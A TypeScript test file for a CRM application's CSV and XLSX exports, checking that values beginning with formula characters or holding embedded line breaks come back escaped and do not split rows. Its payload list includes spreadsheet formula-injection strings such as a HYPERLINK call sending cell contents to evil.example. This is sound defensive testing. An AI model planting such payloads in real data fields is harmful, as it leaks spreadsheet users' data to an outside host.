import { contract, type Endpoint } from '@nenner/shared';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Session, startTestApp, type TestApp } from '../harness.js';
import { createForm, postForm } from '../lead-helpers.js';
import {
  type Ids,
  loadOperations,
  type OpenApiDocument,
  type Operation,
  pathWithIds,
  requiredQuery,
  sample,
  seedWorld,
  withQuery,
} from './surface.js';

/*
 * CSV and XLSX exports: every download the contract declares as text/csv (list exports, the SLA report,
 * attribution, an import's errors.csv), after values that start with every character a spreadsheet reads as
 * a formula (=, +, -, @, tab, CR, and their full-width forms) and values with an embedded CR, LF or CRLF were
 * written through every path that accepts them. Parsed back with csv-parse the way a spreadsheet splits rows
 * (a bare CR ends a row too): every row has the header's columns, no cell starts a formula, and the values
 * come back whole (escaped with a leading `'`). XLSX cells are never formulas.
 */

const leads = ['=', '+', '-', '@', '\t', '\r', '\uFF1D'];
const dangerous = [
  ...leads.map((c) => `${c}HYPERLINK("http://evil.example/?x="&A1,"Hilfe")`),
  'cr\r=1+1',
  'lf\n=1+1',
  'crlf\r\n=1+1',
  'quote"\r@SUM(1)',
];
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Numbers and dates are written as such: a negative amount is no formula. */
const plainNumber = /^-\d[\d.,]*$/;

let t: TestApp;
let doc: OpenApiDocument;
let operations: Operation[];
let ids: Ids;
let admin: Session;
let marketer: Session;

const csvEndpoints = (Object.values(contract) as Endpoint[]).filter((e) => e.produces === 'text/csv');

beforeAll(async () => {
  t = await startTestApp({ NENNER_FORM_POSTS_PER_MINUTE: '10000' });
  ({ doc, operations } = await loadOperations(t));
  admin = await t.session('management', 'admin');
  marketer = await t.session('marketing', 'member');
  ids = await seedWorld(t, doc, operations, admin);
  const op = (m: string, p: string) => operations.find((o) => o.method === m && o.path === p);
  const create = async (path: string, overrides: Record<string, unknown>) => {
    const o = op('POST', path);
    const base = o?.body ? (sample(doc, o.body, ids) as Record<string, unknown>) : {};
    return t.request('POST', path, { cookie: admin.cookie, body: { ...base, ...overrides } });
  };
  const form = await createForm(t, marketer, { name: 'Formel', slug: 'formel' });
  for (const [i, v] of dangerous.entries()) {
    const owner = await t.createUser({ department: 'sales', name: v }).catch(() => undefined);
    await create('/api/accounts', { name: v, industry: v, city: v });
    await create('/api/contacts', { firstName: v, lastName: v, jobTitle: v, source: v });
    await create('/api/deals', { name: v, ...(owner && { ownerId: owner.id }) });
    await create('/api/campaigns', { name: v, description: v });
    await create('/api/leads', { email: `formel${i}@example.org`, firstName: v, lastName: v, company: v, source: v });
    await postForm(t, form.slug, {
      email: `form${i}@example.org`,
      firstName: v,
      lastName: v,
      company: v,
      utm_campaign: v,
      utm_source: v,
    });
  }
  // an import whose errors.csv repeats the bad values
  const rows = [
    'E-Mail,Vorname',
    ...dangerous.map((v) => `"${v.replaceAll('"', '""')}@","${v.replaceAll('"', '""')}"`),
  ];
  const up = await fetch(`${t.url}/api/imports?entity=contacts&fileName=formel.csv`, {
    method: 'POST',
    headers: { cookie: admin.cookie, 'content-type': 'text/csv' },
    body: Buffer.from(`${rows.join('\r\n')}\r\n`, 'utf8'),
  });
  if (up.ok) {
    ids.imports = ((await up.json()) as { id: string }).id;
    await t.request('POST', `/api/imports/${ids.imports}/dry-run`, { cookie: admin.cookie });
  }
}, 240_000);
afterAll(async () => {
  await t?.close();
});

const delimiterOf = (text: string): string => {
  const first = text.split(/\r\n|\n|\r/)[0] ?? '';
  return (first.match(/;/g)?.length ?? 0) > (first.match(/,/g)?.length ?? 0) ? ';' : ',';
};

/** What a spreadsheet sees: rows split at CRLF, LF and a bare CR outside quotes. */
const cellsOf = (text: string): string[][] =>
  parse(text, {
    bom: true,
    delimiter: delimiterOf(text.replace(/^\uFEFF/, '')),
    record_delimiter: ['\r\n', '\n', '\r'],
    relax_column_count: true,
  }) as string[][];

describe('CSV and XLSX exports', () => {
  it('every export escapes formula starts and keeps its row structure', async () => {
    const failures: string[] = [];
    let files = 0;
    let cells = 0;
    let escaped = 0;
    const found = new Map<string, Set<string>>();
    for (const e of csvEndpoints) {
      const op = operations.find((o) => o.method === e.method && o.path === e.path);
      if (!op) {
        failures.push(`${e.method} ${e.path}: declared as a CSV but not in the OpenAPI document`);
        continue;
      }
      const query = requiredQuery(doc, op, ids);
      // a report's range: the last 90 days up to today, which holds everything seeded
      const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
      if ('from' in query) Object.assign(query, { from: day(t.clock.now() - 90 * 86_400_000), to: day(t.clock.now()) });
      const hasFormat = op.parameters.some((p) => p.name === 'format');
      const hasLocale = op.parameters.some((p) => p.name === 'locale');
      const variants: Record<string, string>[] = hasFormat
        ? [
            { format: 'csv', ...(hasLocale && { locale: 'de' }) },
            { format: 'csv', ...(hasLocale && { locale: 'en' }) },
            { format: 'xlsx' },
          ]
        : [{}];
      for (const variant of variants) {
        const path = withQuery(pathWithIds(op.path, ids), { ...query, ...variant });
        const res = await fetch(t.url + path, { headers: { cookie: admin.cookie, accept: 'text/csv' } });
        files += 1;
        if (res.status !== 200) {
          failures.push(`${path} → ${res.status} ${(await res.text()).slice(0, 160)}`);
          continue;
        }
        const type = res.headers.get('content-type') ?? '';
        if (!/text\/csv|spreadsheetml/.test(type)) {
          failures.push(`${path}: a download answered ${type}`);
          continue;
        }
        const seen = found.get(e.path) ?? new Set<string>();
        found.set(e.path, seen);
        if (variant.format === 'xlsx') {
          const book = new ExcelJS.Workbook();
          await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
          book.eachSheet((sheet) =>
            sheet.eachRow((row) =>
              row.eachCell((cell) => {
                cells += 1;
                if (cell.type === ExcelJS.ValueType.Formula) failures.push(`${path}: formula cell ${cell.address}`);
                const v = typeof cell.value === 'string' ? cell.value : '';
                if (formulaStart.test(v))
                  failures.push(`${path}: ${cell.address} starts a formula: ${JSON.stringify(v)}`);
                if (v.startsWith("'") && formulaStart.test(v.slice(1))) escaped += 1;
              }),
            ),
          );
          continue;
        }
        const text = await res.text();
        const rows = cellsOf(text);
        const width = rows[0]?.length ?? 0;
        for (const [i, row] of rows.entries()) {
          if (row.length !== width)
            failures.push(`${path}: row ${i + 1} has ${row.length} cells, the header ${width}: ${JSON.stringify(row)}`);
          for (const cell of row) {
            cells += 1;
            if (formulaStart.test(cell) && !plainNumber.test(cell))
              failures.push(`${path}: row ${i + 1} starts a formula: ${JSON.stringify(cell)}`);
            if (cell.startsWith("'") && formulaStart.test(cell.slice(1))) escaped += 1;
            // the writer escapes a formula start, also one after a bare CR: compare without those quotes
            const plain = cell.replace(/^'/, '').replace(/([\r\n])'/g, '$1');
            for (const v of dangerous) if (plain.includes(v)) seen.add(JSON.stringify(v.slice(0, 6)));
          }
        }
      }
    }
    for (const [path, seen] of found)
      console.log(`csv: ${path} carried ${seen.size} of ${dangerous.length} dangerous values: ${[...seen].join(' ')}`);
    console.log(
      `csv: ${files} files from ${csvEndpoints.length} CSV endpoints, ${cells} cells checked, ${escaped} formula starts escaped, ${failures.length} failures`,
    );
    expect(failures).toEqual([]);
    // the list exports carry the values a user typed: the check above saw them, escaped
    for (const p of ['/api/contacts/export', '/api/accounts/export', '/api/deals/export', '/api/campaigns/export'])
      expect(found.get(p)?.size ?? 0, p).toBeGreaterThan(0);
    expect(escaped).toBeGreaterThan(0);
  }, 300_000);
});
